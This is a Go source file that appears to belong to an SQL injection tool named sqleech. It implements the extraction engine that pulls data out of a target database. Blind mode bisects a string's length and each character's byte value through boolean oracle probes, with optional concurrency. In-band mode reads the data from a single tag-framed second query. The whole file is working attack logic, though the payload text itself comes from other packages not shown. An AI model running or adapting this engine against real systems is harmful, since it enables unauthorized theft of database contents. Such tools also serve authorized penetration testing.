// Package extract implements the bisection-driven extraction engine:
// given a SQL expression, it reduces blind extraction to O(n*log 256)
// boolean oracle calls (or O(n*log4 256) with the optimized 3-probe
// variant), and in-band extraction to a single tag-framed capture.
package extract

import (
	"context"
	"errors"
	"fmt"

	"github.com/0x6d61/sqleech/internal/forge"
	"github.com/0x6d61/sqleech/internal/injector"
	"github.com/0x6d61/sqleech/internal/pool"
)

// defaultLimitCountMax caps blind length bisection; a length resolving
// to cap-1 (or beyond, in Strict mode) is treated as overflow rather
// than a real value.
const defaultLimitCountMax = 1024

// defaultPoolLimit matches pool's own default, repeated here so Engine's
// zero value is usable without explicit configuration.
const defaultPoolLimit = 5

// ErrOutOfRange is returned when length bisection hits the configured
// cap: the true length likely exceeds LimitCountMax.
var ErrOutOfRange = errors.New("extract: bisection hit the length cap")

// Engine ties a Forge (SQL dialect) to an Injector (transport+oracle) and
// drives bisection extraction over it.
type Engine struct {
	Forge    forge.Forge
	Injector injector.Injector

	// LimitCountMax bounds length bisection. Zero selects the default of
	// 1024.
	LimitCountMax int

	// Strict switches the overflow check from "length == cap-1" (the
	// unchanged default) to "length >= cap-1", per Open Question #2.
	Strict bool

	// PoolLimit bounds per-position concurrency for GetBlindStr. Zero
	// selects the default of 5.
	PoolLimit int
}

// New builds an Engine over f and inj with default limits.
func New(f forge.Forge, inj injector.Injector) *Engine {
	return &Engine{Forge: f, Injector: inj}
}

func (e *Engine) limit() int {
	if e.LimitCountMax <= 0 {
		return defaultLimitCountMax
	}
	return e.LimitCountMax
}

func (e *Engine) poolLimit() int {
	if e.PoolLimit <= 0 {
		return defaultPoolLimit
	}
	return e.PoolLimit
}

func (e *Engine) overflowed(length int) bool {
	limit := e.limit()
	if e.Strict {
		return length >= limit-1
	}
	return length == limit-1
}

// probe wraps one bisection condition ("(val) < N") through the Forge's
// WrapBisec/WrapSQL and sends it via Injector, returning the oracle's
// boolean verdict.
func (e *Engine) probe(ctx context.Context, cond string) (bool, error) {
	bisec := e.Forge.WrapBisec(cond)
	payload := e.Forge.WrapSQL(bisec)

	res, err := e.Injector.Inject(ctx, payload)
	if err != nil {
		return false, err
	}
	if res.Bool == nil {
		return false, fmt.Errorf("extract: injector returned no boolean result for a blind probe")
	}
	return *res.Bool, nil
}

// multithread reports whether the bound injector's context allows
// concurrent bisection probes.
func (e *Engine) multithread() bool {
	c := e.Injector.Context()
	return c != nil && c.Multithread
}

// GetBlindInt bisects sql's integer value over [0, LimitCountMax] via a
// single bisection worker.
func (e *Engine) GetBlindInt(ctx context.Context, sql string) (int, error) {
	p := pool.New(1)
	if e.multithread() {
		p.AddBisecTask(e.probe, sql, 0, e.limit())
	} else {
		p.AddClassicBisecTask(e.probe, sql, 0, e.limit())
	}
	if err := p.SolveTasks(ctx); err != nil {
		return 0, err
	}
	res := p.Result()
	if len(res) != 1 || !res[0].Ok {
		return 0, fmt.Errorf("extract: integer bisection failed")
	}
	return res[0].Value, nil
}

// GetBlindStr bisects sql's string length, then schedules one
// byte-bisection worker per character position (parallel when the
// context allows multithreading, sequential otherwise via a one-worker
// pool.Pool), and assembles the result in submission order.
func (e *Engine) GetBlindStr(ctx context.Context, sql string) (string, error) {
	length, err := e.GetBlindInt(ctx, e.Forge.StringLen(sql))
	if err != nil {
		return "", err
	}
	if e.overflowed(length) {
		return "", ErrOutOfRange
	}
	if length == 0 {
		return "", nil
	}

	limit := 1
	if e.multithread() {
		limit = e.poolLimit()
	}
	p := pool.New(limit)
	for pos := 1; pos <= length; pos++ {
		charExpr := e.Forge.ASCII(e.Forge.GetChar(sql, pos))
		if e.multithread() {
			p.AddBisecTask(e.probe, charExpr, 0, 255)
		} else {
			p.AddClassicBisecTask(e.probe, charExpr, 0, 255)
		}
	}
	if err := p.SolveTasks(ctx); err != nil {
		return "", err
	}
	return p.GetStrResult(), nil
}

// GetInbandStr wraps sql inside the Forge's second-query framing
// (forge.Forge.ForgeSecondQuery, tag-delimited) and sends a single
// request, expecting the bound Injector to capture the tag-framed
// substring directly rather than resolve a boolean.
func (e *Engine) GetInbandStr(ctx context.Context, sql string) (string, error) {
	payload := e.Forge.WrapSQL(e.Forge.ForgeSecondQuery(sql))

	res, err := e.Injector.Inject(ctx, payload)
	if err != nil {
		return "", err
	}
	if res.Str == nil {
		return "", fmt.Errorf("extract: injector returned no string result for an in-band probe")
	}
	return *res.Str, nil
}
